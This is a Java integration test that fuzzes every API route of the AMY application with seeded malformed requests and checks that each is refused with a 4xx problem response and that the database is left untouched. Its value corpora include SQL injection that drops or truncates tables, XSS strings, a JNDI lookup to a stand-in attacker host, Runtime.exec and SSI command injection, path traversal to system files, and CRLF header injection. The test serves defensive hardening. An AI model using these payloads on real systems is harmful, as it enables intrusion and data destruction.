package org.carpentries.amy.api.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.carpentries.amy.support.AmyIT;
import org.carpentries.amy.support.Api;
import org.carpentries.amy.support.RawHttp;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Sends thousands of malformed requests, generated from a fixed seed and a corpus of known attacks, to every route of
 * AMY's running application (from Spring's handler mappings), as the admin and anonymously. Every request carries at
 * least one value AMY must refuse wherever the route could change something; each answer must be a 4xx problem with
 * a {@code code}, and every table of the event store and the read models must be byte-identical before and after.
 * Each request is drawn from a seed of its own, printed with any failure, so that one request can be replayed alone.
 */
class HostileInputIT extends AmyIT {

    private static final Logger log = LoggerFactory.getLogger(HostileInputIT.class);

    /** Requests in all: with about 150 routes and two callers, some 30 for each. */
    private static final int TRIES = 10_000;
    /** The seed of the draws of routes, callers and the requests' own seeds. */
    private static final long SEED = 20160406L;
    private static final byte[] ADMIN_AUTHORIZATION = ("Basic " + Base64.getEncoder().encodeToString((Api.ADMIN + ":"
            + Api.ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8))).getBytes(StandardCharsets.ISO_8859_1);
    /**
     * Tables that may change without any write: none today. token_entry is compared without its claim columns
     * (owner, timestamp), which the processors renew on their own, and its tokens as JSON values rather than bytes (one
     * suite run on 2026-12-06 saw a token's bytes change with no event written; the cause is not known);
     * spring_session* (sessions) is left out by name.
     */
    private static final Set<String> EXCLUDED = Set.of();

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    record Route(String method, String pattern, List<String> vars, boolean readsBody) {
        boolean safe() {
            return method.equals("GET") || method.equals("HEAD");
        }
    }

    /** One request under construction: the path's variables, query pairs, headers and body. */
    static final class Request {
        final Map<String, String> vars = new LinkedHashMap<>();
        final List<String> query = new ArrayList<>();
        final Map<String, byte[]> headers = new LinkedHashMap<>();
        byte[] body;
        String contentType;
        final List<String> kinds = new ArrayList<>();
    }

    interface Mutation {
        void apply(Request request, Random random);
    }

    /** Values of one sort, drawn from the random source of a request. */
    interface Values {
        String draw(Random random);
    }

    // ---- the values: corpora and generated ones ----

    private static final List<Character> UNSAFE = unsafeCharacters();
    private static final Values LETTERS = letters("abcxyzÉéßøжЖשלוםمرحبا中文ひらがな한국어ñç ", 0, 12);
    /** Text of any script with one control or direction character somewhere in it. */
    private static final Values TAINTED = rnd -> LETTERS.draw(rnd) + pick(rnd, UNSAFE) + LETTERS.draw(rnd);
    private static final Values SQL = of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
            "1; DELETE FROM token_entry", "\" OR \"\"=\"", "admin'--", "1 UNION SELECT password_hash FROM account",
            "'); TRUNCATE snapshot_event_entry; --", "x' AND pg_sleep(5)--", "$$; COPY x TO PROGRAM 'id'; $$");
    private static final Values SCRIPT = of("<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/x}",
            "%s%s%s%n", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "<!--#exec cmd=\"id\"-->");
    /** Path segments, already encoded as they go on the wire; Spring's firewall or AMY's filter refuses each. */
    private static final Values TRAVERSAL = of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc",
            "%2e%2e", "x%00", "%00", "..%5C..%5Cwindows", "x%2Fy", "..;", "x;jsessionid=1", "%252e%252e%252f",
            "x%0Ay", "x%7Fy", "%E2%80%AEgpj.exe", "%C2%85", "%0D%0ASet-Cookie:%20x=1", "x%09%1B%5B31m");
    private static final Values BAD_DATE = of("2024-02-30", "2024-13-01", "99999-01-01",
            "2024-01-01T00:00:00+25:00", "2024-01-01T24:61:00Z", "2024-1-1", "0000-00-00", "-1000000000-01-01",
            "2024-02-29T00:00:00[Europe/Atlantis]", "yesterday", "2024-01-01T00:00:00+99:99", "+999999999-12-31",
            // Syntactically fine but beyond PostgreSQL's timestamps: these answered 500 before Instants refused them.
            "-290000-01-01T00:00:00Z", "+999999-12-31T23:59:59Z", "-999999-01-01T00:00:00Z", "+10000-01-01T00:00:00Z");
    private static final Values BAD_NUMBER = of("1e400", "-1e400", "1180591620717411303424",
            "NaN", "Infinity", "-0x1", "0x10", "١٢٣", "9".repeat(120), "1.5", "-2147483649", " 1", "1_000");
    /** Parameter names several routes know, which take a single number, date or instant. */
    private static final Values KNOWN = of("page", "page_size", "as_of", "from", "to", "since",
            "until", "start", "end", "before", "after");
    private static final Values ALPHA = letters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 1, 8);
    private static final Values UNKNOWN = oneOf(
            of("q'", "<x>", "__proto__", "password", "1=1", "where", "order_by", "sort", "debug", "admin"),
            rnd -> "zz_" + ALPHA.draw(rnd));
    private static final Values FIELD = of("id", "name", "slug", "email", "notes", "title",
            "start", "end", "tags", "person_a", "strategy", "dry_run", "as_of", "latitude", "sequence_id");
    private static final Values BROKEN_JSON = of("{", "{\"a\":}", "{'a':1}", "{\"a\":1,}",
            "{\"a\" 1}", "[1,2", "{\"a\":\"\\x\"}", "{\"a\":\"unterminated", "{\"a\":tru}", "{\"a\":01}",
            "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":--1}", "}{", "{\"a\":1}}", "{\"a\":\"\\uZZZZ\"}", "\u0000",
            "{\"name\":\"a\"\u0001}", "{/* comment */}", "{\"a\":1e}", "\uFEFF{\"a\":");

    private static List<Character> unsafeCharacters() {
        List<Character> chars = new ArrayList<>();
        for (char c = 0; c < 0x20; c++) {
            if (c != '\t' && c != '\n' && c != '\r') {
                chars.add(c);
            }
        }
        for (char c = 0x7F; c <= 0x9F; c++) {
            chars.add(c);
        }
        for (char c = 0x202A; c <= 0x202E; c++) {
            chars.add(c);
        }
        for (char c = 0x2066; c <= 0x2069; c++) {
            chars.add(c);
        }
        return chars;
    }

    /** One of the list, each as likely. */
    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** One of the values, each as likely. */
    private static Values of(String... values) {
        List<String> list = List.of(values);
        return rnd -> pick(rnd, list);
    }

    /** A value of one of the sorts, each sort as likely. */
    private static Values oneOf(Values... sorts) {
        List<Values> list = List.of(sorts);
        return rnd -> pick(rnd, list).draw(rnd);
    }

    /** Strings of min to max characters of the alphabet (each distinct character as likely). */
    private static Values letters(String alphabet, int min, int max) {
        int[] chars = alphabet.chars().distinct().toArray();
        return rnd -> {
            int length = between(rnd, min, max);
            StringBuilder out = new StringBuilder(length);
            for (int i = 0; i < length; i++) {
                out.append((char) chars[rnd.nextInt(chars.length)]);
            }
            return out.toString();
        };
    }

    /** A number from lo to hi, both included. */
    private static int between(Random random, int lo, int hi) {
        return lo + random.nextInt(hi - lo + 1);
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String draw(Values values, Random random) {
        return values.draw(random);
    }

    private static String jsonString(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c >= 0x7F) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static void json(Request r, String kind, String body) {
        r.kinds.add(kind);
        r.body = body.getBytes(StandardCharsets.UTF_8);
        r.contentType = "application/json";
    }

    // ---- mutations that AMY must refuse on any route (guaranteed) ----

    private static final List<Mutation> QUERY_AND_HEADER = List.of(
            (r, rnd) -> {
                r.kinds.add("query-unknown");
                r.query.add(enc(draw(UNKNOWN, rnd)) + "=" + enc(draw(oneOf(SQL, SCRIPT, LETTERS), rnd)));
            },
            (r, rnd) -> {
                r.kinds.add("query-control");
                r.query.add(enc(draw(oneOf(KNOWN, UNKNOWN), rnd)) + "=" + enc(draw(TAINTED, rnd)));
            },
            (r, rnd) -> {
                r.kinds.add("query-bad-value");
                r.query.add(enc(draw(KNOWN, rnd)) + "=" + enc(draw(oneOf(BAD_DATE, BAD_NUMBER), rnd)));
            },
            (r, rnd) -> {
                r.kinds.add("query-repeated");
                String name = draw(KNOWN, rnd);
                r.query.add(name + "=1");
                r.query.add(name + "=" + enc(draw(of("2", "2016-04-06T17:05:00Z", "2016-04-06"), rnd)));
            },
            (r, rnd) -> {
                r.kinds.add("header-control");
                String header = draw(of("X-Change-Reason", "If-Match", "If-None-Match", "Accept",
                        "X-Request-Id"), rnd);
                String value = draw(TAINTED, rnd);
                // Raw bytes where HTTP allows them (UTF-8 of C1 and direction characters), RFC 8187 otherwise.
                r.headers.put(header, value.chars().anyMatch(c -> c < 0x20 || c == 0x7F)
                        ? ("X-Change-Reason".equals(header) ? "UTF-8''" + enc(value) : "\"" + enc(value) + "\"")
                        .getBytes(StandardCharsets.ISO_8859_1) : value.getBytes(StandardCharsets.UTF_8));
                if (!"X-Change-Reason".equals(header) && value.chars().anyMatch(c -> c < 0x20 || c == 0x7F)) {
                    // C0 and DEL cannot travel in a header line; this one carries a C1 character instead.
                    r.headers.put(header, ("a" + (char) 0xC2 + (char) 0x85 + "b").getBytes(StandardCharsets.ISO_8859_1));
                    r.headers.put("X-Change-Reason", ("UTF-8''" + enc(value)).getBytes(StandardCharsets.ISO_8859_1));
                }
            });

    private static final List<Mutation> PATH = List.of(
            (r, rnd) -> {
                r.kinds.add("path-traversal");
                String var = pick(rnd, List.copyOf(r.vars.keySet()));
                r.vars.put(var, draw(TRAVERSAL, rnd));
            },
            (r, rnd) -> {
                r.kinds.add("path-control");
                String var = pick(rnd, List.copyOf(r.vars.keySet()));
                r.vars.put(var, enc(draw(TAINTED, rnd)));
            });

    private static final List<Mutation> BODY = List.of(
            (r, rnd) -> json(r, "body-broken", draw(BROKEN_JSON, rnd)),
            (r, rnd) -> {
                int depth = between(rnd, 33, 5000);
                boolean arrays = rnd.nextBoolean();
                json(r, "body-deep", arrays ? "[".repeat(depth) + "]".repeat(depth)
                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
            },
            (r, rnd) -> {
                String field = draw(FIELD, rnd);
                json(r, "body-duplicate-key", "{" + jsonString(field) + ":\"a\"," + jsonString(field) + ":\"b\"}");
            },
            (r, rnd) -> json(r, "body-control", "{" + jsonString(draw(FIELD, rnd)) + ":"
                    + jsonString(draw(TAINTED, rnd)) + "}"),
            (r, rnd) -> json(r, "body-control-key", "{" + jsonString(draw(TAINTED, rnd)) + ":1}"),
            (r, rnd) -> json(r, "body-overlong", "{" + jsonString(draw(FIELD, rnd)) + ":\""
                    + "a".repeat(100_001 + rnd.nextInt(1000)) + "\"}"),
            (r, rnd) -> json(r, "body-long-number", "{" + jsonString(draw(FIELD, rnd)) + ":1"
                    + "0".repeat(101 + rnd.nextInt(500)) + "}"),
            (r, rnd) -> json(r, "body-huge-number", "{" + jsonString(draw(FIELD, rnd)) + ":"
                    + draw(of("1e400", "-1e400", "1.7976931348623159e308"), rnd) + "}"),
            (r, rnd) -> json(r, "body-top-level", draw(of("[]", "\"text\"", "42", "true",
                    "[{\"name\":\"x\"}]", "-0", "\"' OR 1=1\""), rnd)),
            (r, rnd) -> {
                r.kinds.add("body-content-type");
                r.contentType = draw(of("text/plain", "application/xml", "text/html",
                        "application/octet-stream", "multipart/form-data; boundary=x"), rnd);
                r.body = "{\"name\":\"x\"}".getBytes(StandardCharsets.UTF_8);
            });

    // ---- mutations that are hostile but that some routes may take as a value (never alone on a write) ----

    private static final List<Mutation> SOFT = List.of(
            (r, rnd) -> {
                if (!r.vars.isEmpty()) {
                    r.kinds.add("path-injection");
                    String var = pick(rnd, List.copyOf(r.vars.keySet()));
                    r.vars.put(var, enc(draw(oneOf(SQL, SCRIPT, BAD_DATE, BAD_NUMBER), rnd)));
                }
            },
            (r, rnd) -> {
                if (r.body == null) {
                    r.kinds.add("body-wrong-types");
                    r.body = ("{" + jsonString(draw(FIELD, rnd)) + ":" + draw(of("[]", "{}", "true",
                            "1180591620717411303424", "-0", "\"NaN\"", "\"2024-02-30\"", "\"1e400\"",
                            jsonString("<script>alert(1)</script>")), rnd) + "}").getBytes(StandardCharsets.UTF_8);
                    r.contentType = "application/json";
                }
            });

    private Map<String, String> before;
    private long eventsBefore;
    private final Map<Integer, Integer> byStatus = new TreeMap<>();
    private final Map<String, Integer> byCode = new TreeMap<>();
    private final Map<String, Integer> byKind = new TreeMap<>();
    private final Set<String> reached = new java.util.TreeSet<>();
    private final List<String> wrong = new ArrayList<>();
    private int tried;

    @Test
    void malformedRequestsAreRefusedWithProblems() {
        List<Route> routes = routes();
        before = settledFingerprint();
        eventsBefore = eventCount();
        long start = System.nanoTime();
        Random draws = new Random(SEED);
        for (int i = 0; i < TRIES; i++) {
            // Every route in turn, as admin and anonymously in alternate rounds, so each pair is reached whatever
            // the number of routes; what is sent is drawn from the seed.
            Route route = routes.get(i % routes.size());
            boolean asAdmin = (i / routes.size()) % 2 == 0;
            long seed = draws.nextLong();
            send(route, asAdmin, seed);
        }
        long seconds = Duration.ofNanos(System.nanoTime() - start).toSeconds();
        log.info("HostileInputIT: {} requests to {} routes in {} s; by status: {}; by code: {}; by kind: {}", tried,
                routes.size(), seconds, byStatus, byCode, byKind);
        wrong.stream().limit(200).forEach(w -> log.warn("WRONG {}", w));
        assertThat(wrong.subList(0, Math.min(wrong.size(), 60)))
                .as("requests not refused with a 4xx problem (%d in all, the first ones shown)", wrong.size()).isEmpty();
        assertThat(tried).isEqualTo(TRIES);
        // Two handlers may share a method and pattern (a login by JSON or by form): count each pair once.
        long pairs = routes.stream().map(r -> r.method() + " " + r.pattern()).distinct().count();
        assertThat(reached).as("every route, as admin and anonymously").hasSize((int) pairs * 2);
        assertThat(eventCount()).isEqualTo(eventsBefore);
        assertThat(settledFingerprint()).isEqualTo(before);
    }

    /** One malformed request to the route, drawn from its own seed; what is wrong with the answer goes to wrong. */
    private void send(Route route, boolean asAdmin, long seed) {
        Random random = new Random(seed);
        Request request = generate(route, random);
        if (asAdmin) {
            request.headers.put("Authorization", ADMIN_AUTHORIZATION);
        }
        String path = path(route, request);
        String caller = "seed " + seed + " " + (asAdmin ? "admin " : "anonymous ");
        RawHttp.Response response;
        try {
            response = new RawHttp(port).send(route.method(), path, headers(request), request.body);
        } catch (RuntimeException e) {
            wrong.add(caller + route.method() + " " + path + " " + request.kinds + ": no answer: " + e);
            return;
        }
        tried++;
        reached.add((asAdmin ? "admin " : "anonymous ") + route.method() + " " + route.pattern());
        byStatus.merge(response.status(), 1, Integer::sum);
        request.kinds.forEach(k -> byKind.merge(k, 1, Integer::sum));
        String code = response.code();
        byCode.merge(String.valueOf(code), 1, Integer::sum);
        if (response.status() < 400 || response.status() >= 500
                || !response.contentType().startsWith("application/problem+json") || code == null) {
            wrong.add(caller + route.method() + " " + path + " " + request.kinds + " -> " + response);
        }
    }

    private Request generate(Route route, Random random) {
        Request r = new Request();
        route.vars().forEach(v -> r.vars.put(v, "x"));
        if (!route.safe()) {
            r.headers.put("If-Match", "\"0\"".getBytes(StandardCharsets.ISO_8859_1));
        }
        List<Mutation> sure = new ArrayList<>(QUERY_AND_HEADER);
        if (!route.vars().isEmpty()) {
            sure.addAll(PATH);
        }
        if (route.readsBody()) {
            // Bodies are where most of the malformations are: give them most of the draws.
            sure.addAll(BODY);
            sure.addAll(BODY);
        }
        if (route.safe() && !route.vars().isEmpty() && random.nextInt(4) == 0) {
            // A read changes nothing whatever it is sent: an injection in a path alone must still be refused.
            SOFT.get(0).apply(r, random);
        } else {
            sure.get(random.nextInt(sure.size())).apply(r, random);
        }
        int extras = random.nextInt(3);
        for (int i = 0; i < extras; i++) {
            List<Mutation> any = new ArrayList<>(sure);
            any.addAll(SOFT);
            any.get(random.nextInt(any.size())).apply(r, random);
        }
        return r;
    }

    private static String path(Route route, Request r) {
        Matcher m = Pattern.compile("\\{([^}:]+)(:[^}]*)?}").matcher(route.pattern());
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            m.appendReplacement(out, Matcher.quoteReplacement(r.vars.get(m.group(1))));
        }
        m.appendTail(out);
        return r.query.isEmpty() ? out.toString() : out + "?" + String.join("&", r.query);
    }

    private static Map<String, byte[]> headers(Request r) {
        Map<String, byte[]> headers = new LinkedHashMap<>(r.headers);
        if (r.contentType != null) {
            headers.put("Content-Type", r.contentType.getBytes(StandardCharsets.ISO_8859_1));
        }
        return headers;
    }

    private List<Route> routes() {
        List<Route> routes = new ArrayList<>();
        mappings.getHandlerMethods().forEach((RequestMappingInfo info, HandlerMethod handler) -> {
            if (!handler.getBeanType().getName().startsWith("org.carpentries.amy.")) {
                return;
            }
            boolean body = java.util.Arrays.stream(handler.getMethodParameters())
                    .anyMatch(p -> p.hasParameterAnnotation(RequestBody.class));
            Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
            for (String pattern : info.getPatternValues()) {
                if (!pattern.startsWith("/api/")) {
                    continue;
                }
                List<String> vars = new ArrayList<>();
                Matcher m = Pattern.compile("\\{([^}:]+)(:[^}]*)?}").matcher(pattern);
                while (m.find()) {
                    vars.add(m.group(1));
                }
                for (RequestMethod method : methods.isEmpty() ? Set.of(RequestMethod.GET) : methods) {
                    routes.add(new Route(method.name(), pattern, vars, body));
                }
            }
        });
        routes.sort(java.util.Comparator.comparing(r -> r.method() + " " + r.pattern()));
        return routes;
    }

    /**
     * The fingerprint once the processors have finished what earlier tests left them: equal twice in a row, with every
     * tracking token at the newest event and holding no gaps. A processor with no handler for the newest event moves
     * its token past it only on its next claim; a gap stays in a token until Axon's gap timeout: either change, made
     * during the requests without any write, would look like one.
     */
    private Map<String, String> settledFingerprint() {
        AtomicReference<Map<String, String>> last = new AtomicReference<>(Map.of());
        await().atMost(Duration.ofSeconds(180)).pollInterval(Duration.ofMillis(500)).until(() -> {
            Map<String, String> now = fingerprint();
            return now.equals(last.getAndSet(now)) && unsettledTokens() == 0;
        });
        return last.get();
    }

    /** Tracking tokens (stored as JSON) behind the newest event or with gaps. */
    private long unsettledTokens() {
        Long n = jdbc.queryForObject("SELECT count(*) FROM (SELECT convert_from(token, 'UTF8')::jsonb AS t "
                + "FROM token_entry WHERE token IS NOT NULL) k WHERE (t ->> 'index')::bigint < (SELECT "
                + "coalesce(max(global_index), 0) FROM domain_event_entry) OR jsonb_array_length(coalesce(t -> 'gaps', "
                + "'[]'::jsonb)) > 0", Long.class);
        return n == null ? 0 : n;
    }

    /** Per table of schema public: its row count and the MD5 of its rows as text, in order. */
    private Map<String, String> fingerprint() {
        Map<String, String> prints = new TreeMap<>();
        for (String table : jdbc.queryForList("SELECT table_name FROM information_schema.tables WHERE table_schema = "
                + "'public' AND table_type = 'BASE TABLE' ORDER BY 1", String.class)) {
            if (EXCLUDED.contains(table) || table.toLowerCase(java.util.Locale.ROOT).startsWith("spring_session")) {
                continue;
            }
            String rows = table.equals("token_entry") ? "SELECT processor_name, segment, "
                    + "convert_from(token, 'UTF8')::jsonb FROM token_entry"
                    : "SELECT * FROM \"" + table + "\"";
            prints.put(table, jdbc.queryForObject("SELECT count(*) || ':' || coalesce(md5(string_agg(r::text, "
                    + "E'\\n' ORDER BY r::text)), '') FROM (" + rows + ") r", String.class));
        }
        return prints;
    }
}
